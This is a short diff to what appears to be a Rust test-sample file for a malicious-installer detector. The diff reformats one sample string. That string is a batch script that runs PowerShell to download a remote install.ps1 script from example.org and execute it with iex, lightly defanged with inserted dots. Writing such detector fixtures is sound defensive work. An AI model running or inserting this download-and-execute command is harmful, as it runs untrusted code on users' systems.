@@ -38,7 +38,8 @@ fn hidden() -> Vec<Sample> {
             HIDDEN,
             "installer in sight",
             plain(
-                "@echo off\r\npowershell -NoProfile -Command \"ie·x ((New-Object Net.WebClient).Download·String('https://example.org/install.ps1'))\"\r\n",
+                "@echo off\r\n\
+                 powershell -NoProfile -Command \"ie·x ((New-Object Net.WebClient).Download·String('https://example.org/install.ps1'))\"\r\n",
             ),
         ),
         miss(
